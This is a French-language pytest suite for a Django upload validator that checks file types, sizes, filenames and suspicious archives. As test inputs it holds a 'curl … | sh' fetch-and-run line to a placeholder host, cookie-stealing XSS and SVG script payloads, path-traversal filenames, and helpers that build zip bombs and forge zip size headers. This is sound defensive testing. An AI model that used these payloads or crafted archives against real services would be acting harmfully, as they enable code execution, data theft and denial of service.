import html
import io
import struct
import time
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from demandes import fichiers, services
from demandes.fichiers import FORMATS_ACCEPTES, TAILLE_MAX, FichierVerifie, verifier_fichier
from demandes.models import Demande, DemandeComplement, MotifComplement, PieceJointe

MO = 1024 * 1024
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
ODP = "application/vnd.oasis.opendocument.presentation"


def contenu_pdf():
    flux = b"BT /F1 12 Tf 72 720 Td (Note de presentation) Tj ET"
    objets = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(flux), flux),
    ]
    sortie = bytearray(b"%PDF-1.4\n")
    positions = []
    for numero, objet in enumerate(objets, start=1):
        positions.append(len(sortie))
        sortie += b"%d 0 obj\n%s\nendobj\n" % (numero, objet)
    xref = len(sortie)
    sortie += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objets) + 1)
    sortie += b"".join(b"%010d 00000 n \n" % position for position in positions)
    sortie += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objets) + 1,
        xref,
    )
    return bytes(sortie)


def contenu_png():
    def bloc(genre, donnees):
        crc = zlib.crc32(genre + donnees)
        return struct.pack(">I", len(donnees)) + genre + donnees + struct.pack(">I", crc)

    entete = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1 by 1, 8 bits, RGB
    pixels = zlib.compress(b"\x00\xff\x00\x00")  # filter byte, then one red pixel
    return b"\x89PNG\r\n\x1a\n" + bloc(b"IHDR", entete) + bloc(b"IDAT", pixels) + bloc(b"IEND", b"")


def contenu_jpeg():
    jfif = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + jfif + b"\xff\xd9"


def contenu_webp():
    vp8 = b"VP8L" + struct.pack("<I", 5) + b"\x2f\x00\x00\x00\x00" + b"\x00"
    return b"RIFF" + struct.pack("<I", 4 + len(vp8)) + b"WEBP" + vp8


def contenu_ole2():
    # Only the header matters to the check: OLE2 gives no cheap clue of Word, Excel or PowerPoint.
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def archive(entrees, compression=zipfile.ZIP_DEFLATED):
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", compression) as zip_:
        for nom, donnees in entrees:
            zip_.writestr(nom, donnees)
    return tampon.getvalue()


def contenu_ooxml(dossier="word", partie="document.xml", texte="Bonjour"):
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{dossier}/{partie}" ContentType="application/xml"/>'
        "</Types>"
    )
    relations = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Target="{dossier}/{partie}" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
        "</Relationships>"
    )
    return archive(
        [
            ("[Content_Types].xml", types),
            ("_rels/.rels", relations),
            (f"{dossier}/{partie}", f"<document><p>{texte}</p></document>"),
        ]
    )


def contenu_opendocument(type_mime=ODT):
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", zipfile.ZIP_DEFLATED) as zip_:
        # The format asks for "mimetype" first and uncompressed.
        zip_.writestr("mimetype", type_mime, compress_type=zipfile.ZIP_STORED)
        zip_.writestr("content.xml", "<office:document-content/>")
        zip_.writestr(
            "META-INF/manifest.xml",
            f'<manifest:manifest><manifest:file-entry manifest:media-type="{type_mime}" '
            'manifest:full-path="/"/></manifest:manifest>',
        )
    return tampon.getvalue()


def bombe(taille):
    """A docx-looking archive whose only part is ``taille`` bytes of zeros."""
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zip_:
        zip_.writestr("[Content_Types].xml", "<Types/>")
        with zip_.open("word/document.xml", "w") as partie:
            zeros = bytes(MO)
            for _ in range(taille // MO):
                partie.write(zeros)
    return tampon.getvalue()


def televerser(nom, contenu):
    return SimpleUploadedFile(nom, contenu, content_type="application/octet-stream")


def refus(nom, contenu):
    with pytest.raises(ValidationError) as erreur:
        verifier_fichier(televerser(nom, contenu))
    return erreur.value


@pytest.mark.parametrize(
    ("nom", "contenu", "type_mime", "extension"),
    [
        ("etude.pdf", contenu_pdf(), "application/pdf", ".pdf"),
        ("plan.png", contenu_png(), "image/png", ".png"),
        ("photo.jpg", contenu_jpeg(), "image/jpeg", ".jpg"),
        ("photo.jpeg", contenu_jpeg(), "image/jpeg", ".jpg"),
        ("PHOTO.JPG", contenu_jpeg(), "image/jpeg", ".jpg"),
        ("vue.webp", contenu_webp(), "image/webp", ".webp"),
        ("note.docx", contenu_ooxml("word", "document.xml"), DOCX, ".docx"),
        ("budget.xlsx", contenu_ooxml("xl", "workbook.xml"), XLSX, ".xlsx"),
        ("diaporama.pptx", contenu_ooxml("ppt", "presentation.xml"), PPTX, ".pptx"),
        ("note.odt", contenu_opendocument(ODT), ODT, ".odt"),
        ("budget.ods", contenu_opendocument(ODS), ODS, ".ods"),
        ("diaporama.odp", contenu_opendocument(ODP), ODP, ".odp"),
        ("ancien.doc", contenu_ole2(), "application/msword", ".doc"),
        ("ancien.xls", contenu_ole2(), "application/vnd.ms-excel", ".xls"),
        ("ancien.ppt", contenu_ole2(), "application/vnd.ms-powerpoint", ".ppt"),
    ],
)
def test_chaque_format_accepte_est_reconnu_par_son_contenu(nom, contenu, type_mime, extension):
    verifie = verifier_fichier(televerser(nom, contenu))
    assert verifie == FichierVerifie(
        nom=nom, type_mime=type_mime, extension=extension, taille=len(contenu)
    )


def test_un_fichier_de_exactement_10_mo_est_accepte():
    contenu = contenu_pdf()
    contenu += bytes(TAILLE_MAX - len(contenu))
    assert verifier_fichier(televerser("gros.pdf", contenu)).taille == 10 * MO


@pytest.mark.parametrize(
    "contenu",
    [
        pytest.param(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200), id="exe-windows"),
        pytest.param(b"\x7fELF\x02\x01\x01\x00" + bytes(200), id="elf"),
        pytest.param(b"#!/bin/sh\ncurl http://exemple.invalid | sh\n", id="script"),
        pytest.param(b"%!PS-Adobe-3.0\n", id="postscript"),
        pytest.param(archive([("lisez-moi.txt", "un zip ordinaire")]), id="zip"),
    ],
)
def test_un_executable_renomme_en_pdf_est_refuse(contenu):
    erreur = refus("devis.pdf", contenu)
    assert erreur.code == "type_refuse"
    assert erreur.messages == [
        f"Le fichier « devis.pdf » n'est pas dans un format accepté. "
        f"Formats acceptés : {FORMATS_ACCEPTES}."
    ]


def test_une_page_html_renommee_en_pdf_est_refusee():
    page = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
    erreur = refus("devis.pdf", page)
    assert erreur.code == "type_refuse"
    assert FORMATS_ACCEPTES in erreur.messages[0]


@pytest.mark.parametrize("nom", ["logo.svg", "logo.png"])
def test_une_image_svg_est_refusee_car_elle_peut_porter_du_script(nom):
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(1)</script></svg>"
    )
    assert refus(nom, svg).code == "type_refuse"


def test_un_png_nomme_en_pdf_est_refuse_et_le_message_dit_comment_le_renommer():
    erreur = refus("photo.pdf", contenu_png())
    assert erreur.code == "extension_incoherente"
    assert erreur.messages == [
        "Le fichier « photo.pdf » contient une image PNG mais son nom se termine par .pdf : "
        "renommez-le avec l'extension .png."
    ]


@pytest.mark.parametrize(
    ("nom", "contenu"),
    [
        ("note.odt", contenu_ooxml("word", "document.xml")),
        ("note.docx", contenu_opendocument(ODT)),
        ("budget.docx", contenu_ooxml("xl", "workbook.xml")),
        ("budget.xlsx", contenu_opendocument(ODS)),
        ("scan.png", contenu_jpeg()),
        ("etude.pdf.exe", contenu_pdf()),
    ],
)
def test_un_contenu_qui_ne_correspond_pas_a_l_extension_est_refuse(nom, contenu):
    assert refus(nom, contenu).code == "extension_incoherente"


def test_un_ancien_document_office_doit_porter_une_des_trois_extensions():
    erreur = refus("ancien.pdf", contenu_ole2())
    assert erreur.code == "extension_incoherente"
    assert "renommez-le avec l'extension .doc, .xls ou .ppt." in erreur.messages[0]


def test_un_fichier_sans_extension_est_refuse():
    erreur = refus("rapport", contenu_pdf())
    assert erreur.code == "extension_incoherente"
    assert erreur.messages == [
        "Le fichier « rapport » n'a pas d'extension : il contient un document PDF, "
        "renommez-le avec l'extension .pdf."
    ]


def test_un_fichier_vide_est_refuse():
    erreur = refus("vide.pdf", b"")
    assert erreur.code == "vide"
    assert erreur.messages == ["Le fichier « vide.pdf » est vide."]


def test_un_fichier_de_plus_de_10_mo_est_refuse():
    contenu = contenu_pdf()
    contenu += bytes(TAILLE_MAX + 1 - len(contenu))
    erreur = refus("gros.pdf", contenu)
    assert erreur.code == "trop_gros"
    assert erreur.messages == ["Le fichier « gros.pdf » dépasse la taille maximale de 10 Mo."]


def test_la_taille_annoncee_par_le_televersement_suffit_a_refuser_sans_lire_le_fichier():
    fichier = televerser("gros.pdf", contenu_pdf())
    fichier.size = TAILLE_MAX + 1
    with pytest.raises(ValidationError) as erreur:
        verifier_fichier(fichier)
    assert erreur.value.code == "trop_gros"


def test_la_verification_d_un_pdf_ne_lit_que_son_debut():
    lus = []

    class Espion(io.BytesIO):
        def read(self, taille=-1):
            donnees = super().read(taille)
            lus.append(len(donnees))
            return donnees

    contenu = contenu_pdf() + bytes(5 * MO)
    fichier = televerser("etude.pdf", contenu)
    fichier.file = Espion(contenu)
    verifier_fichier(fichier)
    assert sum(lus) <= 64


def test_une_bombe_zip_deguisee_en_docx_est_refusee():
    contenu = bombe(101 * MO)
    assert len(contenu) < TAILLE_MAX
    erreur = refus("note.docx", contenu)
    assert erreur.code == "archive_suspecte"
    message = erreur.messages[0]
    assert "une fois décompressé, son contenu serait anormalement volumineux" in message


def test_une_archive_trop_compressee_est_refusee_meme_sous_100_mo():
    assert refus("note.docx", bombe(5 * MO)).code == "archive_suspecte"


def test_une_archive_trop_volumineuse_une_fois_decompressee_est_refusee(monkeypatch):
    # 100 Mo that compress less than 100:1 would take seconds to build: lower the limit instead.
    contenu = contenu_ooxml(texte="Un paragraphe. " * 200)
    monkeypatch.setattr(fichiers, "TAILLE_DECOMPRESSEE_MAX", 1000)
    assert refus("note.docx", contenu).code == "archive_suspecte"


def test_une_archive_de_plus_de_5000_elements_est_refusee():
    entrees = [("[Content_Types].xml", "<Types/>")]
    entrees += [(f"word/media/{numero}.xml", "") for numero in range(fichiers.ENTREES_ZIP_MAX)]
    erreur = refus("note.docx", archive(entrees, zipfile.ZIP_STORED))
    assert erreur.code == "archive_suspecte"
    assert "nombre anormal d'éléments" in erreur.messages[0]


def docx_zip64(monkeypatch):
    """A small docx ending with the Zip64 records, as some writers always put them."""
    with monkeypatch.context() as patch:
        patch.setattr(zipfile, "ZIP_FILECOUNT_LIMIT", 1)  # zipfile writes them past this count
        contenu = contenu_ooxml()
    assert b"PK\x06\x06" in contenu and b"PK\x06\x07" in contenu
    return contenu


def test_une_archive_zip64_ordinaire_est_acceptee(monkeypatch):
    assert verifier_fichier(televerser("note.docx", docx_zip64(monkeypatch))).type_mime == DOCX


def test_une_archive_zip64_qui_annonce_trop_d_elements_est_refusee(monkeypatch):
    contenu = bytearray(docx_zip64(monkeypatch))
    fin_64 = contenu.rindex(b"PK\x06\x06")
    struct.pack_into("<QQ", contenu, fin_64 + 24, 70_000, 70_000)
    erreur = refus("note.docx", bytes(contenu))
    assert erreur.code == "archive_suspecte"
    assert "nombre anormal d'éléments" in erreur.messages[0]


def test_une_archive_endommagee_est_refusee():
    contenu = contenu_ooxml()
    erreur = refus("note.docx", contenu[: len(contenu) // 2])
    assert erreur.code == "archive_suspecte"
    assert erreur.messages == [
        "Le fichier « note.docx » est endommagé : son contenu n'a pas pu être lu."
    ]


@pytest.mark.parametrize(
    ("nom_envoye", "nom"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Windows\\x.pdf", "x.pdf"),
        ("a\x00b.pdf", "ab.pdf"),
        ("rapport\nfinal.pdf", "rapport final.pdf"),
        ("facture\u202efdp.pdf", "facturefdp.pdf"),
        (".pdf", "document.pdf"),
        ("...pdf", "document.pdf"),
        ("C:\\..\\.pdf", "document.pdf"),
        ("  compte rendu .pdf", "compte rendu.pdf"),
    ],
)
def test_le_nom_garde_est_sur(nom_envoye, nom):
    assert verifier_fichier(televerser(nom_envoye, contenu_pdf())).nom == nom


def test_un_nom_trop_long_est_raccourci_en_gardant_son_extension():
    nom = verifier_fichier(televerser("r" * 296 + ".pdf", contenu_pdf())).nom
    assert len(nom) == 150
    assert nom == "r" * 146 + ".pdf"


def test_le_nom_sur_sert_aussi_dans_les_messages():
    erreur = refus("..\\..\\secret\x07.pdf", b"MZ")
    assert erreur.messages[0].startswith("Le fichier « secret.pdf » n'est pas")


@pytest.mark.parametrize(
    ("nom", "contenu", "code"),
    [
        ("etude.pdf", contenu_pdf(), None),
        ("note.docx", contenu_ooxml(), None),
        ("note.odt", contenu_opendocument(), None),
        ("devis.pdf", b"MZ\x90\x00" + bytes(100), "type_refuse"),
        ("photo.pdf", contenu_png(), "extension_incoherente"),
        ("note.docx", bombe(5 * MO), "archive_suspecte"),
        ("note.docx", b"PK\x03\x04 pas vraiment un zip", "archive_suspecte"),
    ],
)
def test_le_fichier_est_rembobine_apres_la_verification(nom, contenu, code):
    fichier = televerser(nom, contenu)
    fichier.read(3)  # the caller may have read it already: the check must not depend on that
    try:
        verifier_fichier(fichier)
    except ValidationError as erreur:
        assert erreur.code == code
    else:
        assert code is None
    assert fichier.tell() == 0
    assert fichier.read() == contenu


# Hostile archives sent through the three forms that take documents: filing a request, adding
# documents to a draft, answering a complement. Each is refused in French, fast, nothing saved.


def beaucoup_d_elements(nombre):
    """A docx-looking archive of ``nombre`` empty entries, with names as short as possible."""
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", zipfile.ZIP_STORED) as zip_:
        zip_.writestr("[Content_Types].xml", "<Types/>")
        zip_.writestr("word/document.xml", "<document/>")
        for numero in range(nombre):
            zip_.writestr(f"{numero:x}", "")
    return tampon.getvalue()


def _fin_du_repertoire(contenu):
    return contenu.rindex(b"PK\x05\x06")


def annoncer(contenu, *, entrees):
    """``contenu`` whose end of central directory record declares ``entrees`` entries."""
    sortie = bytearray(contenu)
    struct.pack_into("<HH", sortie, _fin_du_repertoire(contenu) + 8, entrees, entrees)
    return bytes(sortie)


def mentir_sur_la_taille(contenu, nom, taille):
    """``contenu`` where the entry ``nom`` declares ``taille`` bytes once decompressed, in its
    local header and in the central directory, whatever it really holds."""
    sortie = bytearray(contenu)
    with zipfile.ZipFile(io.BytesIO(contenu)) as zip_:
        struct.pack_into("<L", sortie, zip_.getinfo(nom).header_offset + 22, taille)
    (position,) = struct.unpack_from("<L", contenu, _fin_du_repertoire(contenu) + 16)
    while True:
        longueurs = struct.unpack_from("<HHH", contenu, position + 28)
        if contenu[position + 46 : position + 46 + longueurs[0]] == nom.encode():
            struct.pack_into("<L", sortie, position + 24, taille)
            return bytes(sortie)
        position += 46 + sum(longueurs)


@pytest.fixture(params=["depot", "brouillon", "complement"])
def formulaire_avec_documents(request, connecter, comptes):
    """(URL, fields) of a form that takes documents, the mayor of Delle logged in."""
    if request.param == "depot":
        url, champs = "/demandes/nouvelle/", {"titre": "Salle des fêtes", "brouillon": "1"}
    elif request.param == "brouillon":
        brouillon = request.getfixturevalue("brouillon_delle")
        url = f"/demandes/{brouillon.pk}/modifier/"
        champs = {"titre": brouillon.titre, "version": brouillon.version, "brouillon": "1"}
    else:
        demande = request.getfixturevalue("en_instruction_delle")
        complement = services.demander_complement(
            demande=demande,
            par=comptes["agent@ddt.demo"],
            version=None,
            points=[("Joindre le devis.", MotifComplement.INCOMPLET)],
        )
        url = f"/demandes/{demande.pk}/completer/"
        champs = {f"point_{complement.points.get().pk}": "Devis joint."}
    connecter("maire@delle.demo")
    return url, champs


def etat_enregistre():
    return (
        list(Demande.objects.values_list("pk", "version", "statut")),
        list(PieceJointe.objects.values_list("pk", flat=True)),
        DemandeComplement.objects.filter(date_reponse__isnull=False).count(),
    )


def envoyer(client, formulaire, contenus, nom="note.docx"):
    """Post ``contenus`` as documents through ``formulaire``: the page and its duration."""
    url, champs = formulaire
    documents = [televerser(f"{numero}-{nom}", contenu) for numero, contenu in enumerate(contenus)]
    debut = time.perf_counter()
    reponse = client.post(url, {**champs, "documents": documents})
    return reponse, time.perf_counter() - debut


@pytest.fixture(scope="module")
def cinquante_mille_elements():
    return beaucoup_d_elements(50_000)


def test_onze_documents_sont_refuses_sans_en_ouvrir_un_seul(
    client, formulaire_avec_documents, cinquante_mille_elements
):
    avant = etat_enregistre()
    reponse, duree = envoyer(client, formulaire_avec_documents, [cinquante_mille_elements] * 11)
    page = html.unescape(reponse.content.decode())
    assert reponse.status_code == 200
    assert "Une demande compte au plus 10 documents : vous pouvez encore en ajouter" in page
    assert "nombre anormal d'éléments" not in page, "un fichier a été ouvert"
    assert duree < 2
    assert etat_enregistre() == avant


def test_une_archive_de_trop_d_elements_est_refusee_vite(
    client, formulaire_avec_documents, cinquante_mille_elements
):
    avant = etat_enregistre()
    # Nine: the draft and the demande to complete already hold one document.
    reponse, duree = envoyer(client, formulaire_avec_documents, [cinquante_mille_elements] * 9)
    page = html.unescape(reponse.content.decode())
    assert reponse.status_code == 200
    assert (
        "Le fichier « 0-note.docx » est refusé : il contient un nombre anormal d'éléments." in page
    )
    assert "Le fichier « 8-note.docx » est refusé" in page
    # Listing the 50,000 entries of nine files took seconds: the count is read at the end first.
    assert duree < 2
    assert etat_enregistre() == avant


def test_une_archive_qui_annonce_trop_d_elements_est_refusee(client, formulaire_avec_documents):
    avant = etat_enregistre()
    contenu = annoncer(contenu_ooxml(), entrees=fichiers.ENTREES_ZIP_MAX + 1)
    reponse, _ = envoyer(client, formulaire_avec_documents, [contenu])
    page = html.unescape(reponse.content.decode())
    assert reponse.status_code == 200
    assert (
        "Le fichier « 0-note.docx » est refusé : il contient un nombre anormal d'éléments." in page
    )
    assert etat_enregistre() == avant


@pytest.mark.parametrize("annonce", [100, 0])
def test_une_entree_qui_ment_sur_sa_taille_est_mesuree_en_la_decompressant(
    client, formulaire_avec_documents, annonce
):
    avant = etat_enregistre()
    contenu = mentir_sur_la_taille(bombe(50 * MO), "word/document.xml", annonce)
    with zipfile.ZipFile(io.BytesIO(contenu)) as zip_:
        assert zip_.getinfo("word/document.xml").file_size == annonce
    reponse, duree = envoyer(client, formulaire_avec_documents, [contenu])
    page = html.unescape(reponse.content.decode())
    assert reponse.status_code == 200
    assert (
        "Le fichier « 0-note.docx » est refusé : une fois décompressé, son contenu serait "
        "anormalement volumineux." in page
    )
    assert duree < 2
    assert etat_enregistre() == avant


def test_une_archive_compressee_autrement_qu_en_deflate_est_refusee(
    client, formulaire_avec_documents
):
    # bzip2 and LZMA decompress a whole block at once: no office suite writes them anyway.
    avant = etat_enregistre()
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", zipfile.ZIP_BZIP2) as zip_:
        zip_.writestr("[Content_Types].xml", "<Types/>")
        zip_.writestr("word/document.xml", "<document/>")
    reponse, _ = envoyer(client, formulaire_avec_documents, [tampon.getvalue()])
    page = html.unescape(reponse.content.decode())
    assert "Le fichier « 0-note.docx » est endommagé : son contenu n'a pas pu être lu." in page
    assert etat_enregistre() == avant


@pytest.mark.parametrize(
    ("nom", "contenu"),
    [
        ("note.docx", contenu_ooxml("word", "document.xml", texte="Un paragraphe. " * 2000)),
        ("budget.xlsx", contenu_ooxml("xl", "workbook.xml")),
        ("note.odt", contenu_opendocument(ODT)),
    ],
)
def test_les_documents_bureautiques_ordinaires_restent_acceptes(
    client, formulaire_avec_documents, nom, contenu
):
    avant = PieceJointe.objects.count()
    reponse, _ = envoyer(client, formulaire_avec_documents, [contenu] * 2, nom=nom)
    assert reponse.status_code == 302, html.unescape(reponse.content.decode())[-3000:]
    assert PieceJointe.objects.count() == avant + 2


def test_un_envoi_plus_gros_que_la_limite_est_refuse_avant_d_etre_lu(
    client, formulaire_avec_documents, settings
):
    settings.TAILLE_REQUETE_MAX = MO
    avant = etat_enregistre()
    contenu = contenu_pdf() + bytes(MO // 2)
    reponse, _ = envoyer(client, formulaire_avec_documents, [contenu] * 2, nom="etude.pdf")
    page = html.unescape(reponse.content.decode())
    assert reponse.status_code == 413
    assert "Envoi trop volumineux" in page
    assert "1 Mo au plus par envoi" in page
    assert etat_enregistre() == avant
